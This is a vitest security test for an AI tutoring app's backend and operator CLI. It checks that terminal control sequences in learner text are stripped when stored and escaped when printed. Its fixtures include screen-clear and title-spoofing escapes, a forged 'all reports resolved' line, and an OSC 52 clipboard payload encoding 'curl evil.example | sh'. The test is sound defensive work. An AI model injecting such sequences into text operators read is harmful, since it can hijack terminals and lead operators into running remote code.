import type { SessionData } from '@ai-tutor/contract';
import { eq, sql } from 'drizzle-orm';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { accountsCommands } from '../src/cli/accounts-commands.js';
import type { Command } from '../src/cli/commands.js';
import { liveTestCommands } from '../src/cli/live-test-commands.js';
import { reportCommands } from '../src/cli/report-commands.js';
import { questionReports, users } from '../src/db/schema.js';
import { useTestApp } from './helpers/app.js';
import {
  insertCatalogue,
  startSession,
  subjectQuiz,
  submit,
  type TestCatalogue,
} from './helpers/catalogue.js';
import { createLearner } from './helpers/learner.js';

// A learner's text reaches operators' terminals through the CLI. Control sequences in it must neither
// be stored (plain text loses them on the way in) nor act when rows stored before are printed (the CLI
// shows them as escapes): ESC[2J clears the screen, OSC 0 sets the window title, OSC 52 writes the
// clipboard, BEL rings.
const CLEAR = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;you have been pwned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const BELL = '\u0007';
const FAKE_LINE = '\nOK: all reports resolved';
const HOSTILE = `Key is B${CLEAR}${TITLE}${CLIPBOARD}${BELL} not A`;
// Any control character but the line breaks between the CLI's own lines.
// eslint-disable-next-line no-control-regex -- the characters this test looks for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const t = useTestApp();
let c: TestCatalogue;
beforeAll(async () => {
  c = await insertCatalogue(t.app.db, {
    module: { questionCount: 2, durationMinutes: 30 },
    subjects: [{ name: 'Physics', questions: 2, questionCount: 2 }],
  });
});
afterEach(() => vi.restoreAllMocks());

async function cli(commands: Record<string, Command>, name: string, ...args: string[]) {
  const out: string[] = [];
  vi.spyOn(console, 'log').mockImplementation((...parts: unknown[]) => void out.push(parts.join(' ')));
  vi.spyOn(console, 'error').mockImplementation((...parts: unknown[]) => void out.push(parts.join(' ')));
  const code = await commands[name]!.run({ config: t.config, database: t.database, args });
  vi.restoreAllMocks();
  return { code, out: out.join('\n') };
}

describe('control characters on the way in', () => {
  it('a report note keeps its words and loses its control sequences', async () => {
    const learner = await createLearner(t.app);
    const session: SessionData = await startSession(t.app, learner, subjectQuiz(c));
    await submit(t.app, learner, session.assessment.slug);
    const questionId = c.subjects[0]!.questionIds[0]!;
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/v1/questions/${questionId}/reports`,
      headers: learner.headers,
      payload: { reason: 'wrong-key', note: `${HOSTILE}\nsecond line` },
    });
    expect(res.statusCode, res.body).toBeLessThan(300);
    const [stored] = await t.app.db
      .select({ note: questionReports.note })
      .from(questionReports)
      .where(eq(questionReports.userId, learner.id));
    expect(stored?.note).toBe('Key is B not A\nsecond line');
  });

  it('a name is one line of plain text', async () => {
    const learner = await createLearner(t.app);
    const res = await t.app.inject({
      method: 'PUT',
      url: '/api/v1/users',
      headers: learner.headers,
      payload: { name: `Asha${TITLE}${FAKE_LINE}\u202e` },
    });
    expect(res.statusCode, res.body).toBe(200);
    const [row] = await t.app.db.select({ name: users.name }).from(users).where(eq(users.id, learner.id));
    expect(row?.name).toBe('Asha OK: all reports resolved');
  });
});

describe('control characters on the way out (rows stored before)', () => {
  it('reports list, tests list and invites list print them as escapes', async () => {
    const learner = await createLearner(t.app);
    const [question] = await t.app.db.execute(sql`SELECT id FROM questions LIMIT 1`).then((r) => r.rows);
    await t.app.db.insert(questionReports).values({
      userId: learner.id,
      questionId: String((question as { id: string }).id),
      reason: 'other',
      note: HOSTILE + FAKE_LINE,
    });
    const scheduled = await cli(
      liveTestCommands,
      'tests',
      'schedule',
      '--module',
      c.module.slug,
      '--opens',
      new Date(Date.now() + 3600_000).toISOString(),
      '--closes',
      new Date(Date.now() + 7200_000).toISOString(),
    );
    expect(scheduled.code, scheduled.out).toBe(0);
    await t.app.db.execute(sql`UPDATE scheduled_tests SET name = ${`Live ${CLEAR}${CLIPBOARD}`}`);
    await t.app.db.execute(sql`INSERT INTO invite_codes (code, max_uses) VALUES (${`EVIL${TITLE}`}, 1)`);

    const printed = [
      await cli(reportCommands, 'reports', 'list'),
      await cli(liveTestCommands, 'tests', 'list'),
      await cli(accountsCommands, 'invites', 'list'),
    ];
    for (const { code, out } of printed) {
      expect(code).toBe(0);
      expect(out).not.toMatch(RAW_CONTROL);
      expect(out).not.toContain('\nOK: all reports resolved');
    }
    const [reports, tests, invites] = printed.map((p) => p.out);
    expect(reports).toContain('Key is B\\x1b[2J\\x1b[H\\x1b]0;you have been pwned\\x07');
    expect(tests).toContain('Live \\x1b[2J');
    expect(invites).toContain('EVIL\\x1b]0;you have been pwned\\x07');
  });
});
